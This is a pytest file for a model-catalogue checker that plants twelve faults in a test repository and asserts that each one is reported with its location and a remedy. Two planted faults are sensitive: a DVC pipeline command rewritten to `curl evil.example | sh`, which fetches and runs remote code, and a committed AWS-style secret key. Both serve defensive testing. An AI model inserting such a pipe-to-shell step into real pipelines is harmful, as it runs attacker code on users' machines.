"""A fault of every kind that `models check` names, planted: each is found, with place and remedy."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from restoration_models import store
from restoration_models.check import Checked, check
from restoration_models.cli.app import app
from restoration_models.errors import Problem
from restoration_models.lock import read
from restoration_models.store import StoreSettings
from restoration_models.store.local_config import write_remote
from support.layers import md5
from support.reviewed import Reviewed, entry, usual
from support.servers import Server, git, isolate

SECRET = "".join(("wJalrXUtnFEMI", "K7MDENGbPxRfiCY", "zEXbMQLEKEw9"))


@dataclass(frozen=True)
class Fault:
    """A fault, and where and how it shows."""

    plant: Callable[[Reviewed], None]
    place: str
    """Of the problem: file, and key where it has one; a regular expression."""
    what: str
    in_store: bool = False


def edit(repository: Reviewed, name: str, old: str, new: str) -> None:
    path = repository.root / name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def invalid_entry(repository: Reviewed) -> None:
    """`dryer` names a task that is none."""
    edit(repository, "layers/layer-1/params.yaml", '"dryer":', '"dryer":\n    "sice": 3')


def other_digest(repository: Reviewed) -> None:
    """`sharpener` is another file than what was downloaded."""
    digest = repository.layers["layer-2"]["sharpener"]["sha256"]
    edit(repository, "layers/layer-2/params.yaml", digest, "ab" * 32)


def gone_model(repository: Reviewed) -> None:
    """A model's report stays behind."""
    path = repository.project.report("layer-2", "old")
    path.write_bytes(repository.project.report("layer-2", "blur").read_bytes())


def older_protocol(repository: Reviewed) -> None:
    """`blur`'s lock says that it was validated by another protocol."""
    edit(repository, "layers/layer-2/dvc.lock", "validate blur --protocol 1", "validate blur --protocol 7")


def edited_card(repository: Reviewed) -> None:
    edit(repository, "layers/layer-1/cleaner/README.md", "nafnet", "NAFNET, the best")


def committed_checkpoint(repository: Reviewed) -> None:
    path = repository.root / "extra" / "weights.pth"
    path.parent.mkdir()
    path.write_bytes(b"PK\x03\x04" + bytes(26) + b"archive/data.pkl" + bytes(5000))


def missing_licence(repository: Reviewed) -> None:
    """A family that states none, and a model of it that does not either."""
    head = json.loads(json.dumps(yaml.safe_load((repository.root / "params.yaml").read_text())))
    head["families"]["bare"] = {
        key: value for key, value in head["families"]["nafnet"].items() if key != "licence"
    }
    (repository.root / "params.yaml").write_text(json.dumps(head, indent=1))
    path = repository.root / "layers/layer-1/params.yaml"
    layer = yaml.safe_load(path.read_text())
    layer["models"]["lawless"] = entry("lawless", family="bare")
    path.write_text(json.dumps(layer, indent=1))


def credential(repository: Reviewed) -> None:
    (repository.root / "notes.md").write_text(f"# Notes\n\nsecret_key = {SECRET}\n")


def other_settings(repository: Reviewed) -> None:
    edit(repository, ".dvc/config", "verify = true", "verify = false")


def other_command(repository: Reviewed) -> None:
    edit(
        repository,
        "layers/layer-1/dvc.yaml",
        "cmd: models download",
        "cmd: curl evil.example | sh; models download",
    )


def not_stored(repository: Reviewed) -> None:
    """The store never got `unsent`."""


def stored_otherwise(repository: Reviewed) -> None:
    """The store has `short` with another size."""


FAULTS = {
    "catalogue invalid": Fault(
        invalid_entry, r"layers/layer-1/params.yaml:\d+: models.dryer.sice", "unknown key 'sice'"
    ),
    "lock out of step": Fault(
        other_digest,
        r"layers/layer-2/params.yaml:\d+: models.sharpener.sha256",
        "the catalogue asks for another file than was downloaded",
    ),
    "model gone": Fault(gone_model, r"layers/layer-2/reports/old.json", "a report of no model of this layer"),
    "older protocol": Fault(
        older_protocol,
        r"layers/layer-2/dvc.lock:\d+: validate@blur",
        "validated by protocol 7, the catalogue asks for 1",
    ),
    "card edited": Fault(
        edited_card, r"layers/layer-1/cleaner/README.md:\d+", "the card was edited by hand or by a merge"
    ),
    "checkpoint in git": Fault(
        committed_checkpoint, r"extra/weights.pth", "a checkpoint is committed to git"
    ),
    "licence missing": Fault(
        missing_licence, r"layers/layer-1/params.yaml:\d+: models.lawless", "no licence is stated"
    ),
    "credential": Fault(credential, r"notes.md:3", "a text given to 'secret_key' is committed to git"),
    "configuration": Fault(
        other_settings, r'.dvc/config:\d+: remote "minio".verify', "must be true: bytes from the store"
    ),
    "command": Fault(
        other_command, r"layers/layer-1/dvc.yaml:\d+", "not the project's own pipeline: `dvc repro` would run"
    ),
    "not stored": Fault(
        not_stored,
        r"layers/layer-2/dvc.lock:\d+: download@unsent",
        "the store does not have it",
        in_store=True,
    ),
    "stored with another size": Fault(
        stored_otherwise,
        r"layers/layer-2/dvc.lock:\d+: download@short",
        "the store has 5 bytes of it, not 1234567",
        in_store=True,
    ),
}


@pytest.fixture(scope="module")
def stocked(
    tmp_path_factory: pytest.TempPathFactory, seaweedfs_server: Server
) -> Iterator[tuple[Reviewed, StoreSettings]]:
    """A clean repository and its store: every locked checkpoint is there, with its size."""
    with pytest.MonkeyPatch.context() as patch:
        isolate(tmp_path_factory.mktemp("home"), patch)
        repository = usual(tmp_path_factory.mktemp("stocked") / "repository")
        for slug in ("blur", "unsent", "short"):
            repository.layers["layer-2"][slug] = entry(slug)
        repository.settle()
        repository.commit("More models")
        settings = seaweedfs_server.settings()
        write_remote(
            repository.root / ".dvc" / "config.local",
            "minio",
            {
                "endpointurl": settings.endpoint,
                "access_key_id": settings.access_key,
                "secret_access_key": settings.secret_key,
            },
        )
        for layer in repository.layers:
            for locked in read(repository.project, layer).values():
                put(settings, locked.md5, locked.size)
        yield repository, settings


def put(settings: StoreSettings, md5: str, size: int) -> None:
    name = store.object_name(settings, md5)
    store.client(settings).put_object(settings.bucket, name, io.BytesIO(bytes(size)), size)


def unstock(settings: StoreSettings) -> None:
    unsent, short = (md5(entry(slug)["sha256"]) for slug in ("unsent", "short"))
    store.client(settings).remove_object(settings.bucket, store.object_name(settings, unsent))
    put(settings, short, 5)


def restock(settings: StoreSettings) -> None:
    for slug in ("unsent", "short"):
        put(settings, md5(entry(slug)["sha256"]), entry(slug)["size"])


def shows(fault: Fault, found: tuple[Problem, ...]) -> list[Problem]:
    return [
        problem
        for problem in found
        if re.match(rf"{fault.place}: {re.escape(fault.what)}", str(problem)) and problem.remedy
    ]


def checked(repository: Reviewed) -> Checked:
    found = check(repository.project, base="HEAD~1")
    assert found.unasked is None
    return found


def test_the_clean_branch_has_no_problem(stocked: tuple[Reviewed, StoreSettings]) -> None:
    assert checked(stocked[0]).problems == ()


def test_all_twelve_at_once(stocked: tuple[Reviewed, StoreSettings], tmp_path: Path) -> None:
    clean, settings = stocked
    repository = clean.copy(tmp_path / "repository")
    for fault in FAULTS.values():
        fault.plant(repository)
    repository.commit("Twelve faults")
    unstock(settings)
    try:
        problems = checked(repository).problems
    finally:
        restock(settings)

    assert len(FAULTS) == 12
    assert [name for name, fault in FAULTS.items() if len(shows(fault, problems)) != 1] == [], problems
    assert list(problems) == sorted(problems)
    remedies = {problem.key: problem.remedy for problem in problems}
    assert "`dvc push`" in remedies["download@unsent"]
    # DVC asks whether the name is there, and would push nothing.
    assert remedies["download@short"].startswith("run `models store verify --repair` ")


def test_a_commit_is_checked_without_a_checkout(
    stocked: tuple[Reviewed, StoreSettings], tmp_path: Path
) -> None:
    """The same faults on a branch that is not checked out, by another branch's working tree."""
    clean, _ = stocked
    repository = clean.copy(tmp_path / "repository")
    offline = {name: fault for name, fault in FAULTS.items() if not fault.in_store}
    for fault in offline.values():
        fault.plant(repository)
    repository.commit("Ten faults")
    git(repository.root, "switch", "--quiet", "main")
    found = check(repository.project, base="main", head="change", offline=True)

    assert [name for name, fault in offline.items() if len(shows(fault, found.problems)) != 1] == []
    assert check(repository.project, offline=True).problems == ()


@pytest.mark.parametrize("name", [name for name, fault in FAULTS.items() if not fault.in_store])
def test_a_fault_alone_is_found(stocked: tuple[Reviewed, StoreSettings], tmp_path: Path, name: str) -> None:
    repository = stocked[0].copy(tmp_path / "repository")
    fault = FAULTS[name]
    fault.plant(repository)
    repository.commit()
    found = check(repository.project, offline=True).problems

    assert len(shows(fault, found)) == 1
    assert all(problem.remedy for problem in found)
    assert "wJalrXUtnFEMI" not in str(found)  # a credential is never repeated


def test_the_list_says_what_the_store_has(
    stocked: tuple[Reviewed, StoreSettings], monkeypatch: pytest.MonkeyPatch
) -> None:
    repository, settings = stocked
    monkeypatch.chdir(repository.root)
    unstock(settings)
    try:
        result = CliRunner().invoke(app, ["list", "--layer", "layer-2", "--store", "--json"])
        table = CliRunner().invoke(app, ["list", "--layer", "layer-2", "--store"], env={"COLUMNS": "160"})
    finally:
        restock(settings)

    stored = {fact["model"]: fact["stored"] for fact in json.loads(result.stdout)}
    assert stored["blur"] is True
    assert stored["unsent"] is False
    assert stored["short"] is False  # what the store has under its name is not the whole file
    assert re.search(r"blur .* (validated|locked), stored", table.stdout)
    assert re.search(r"unsent .* (validated|locked), not stored", table.stdout)
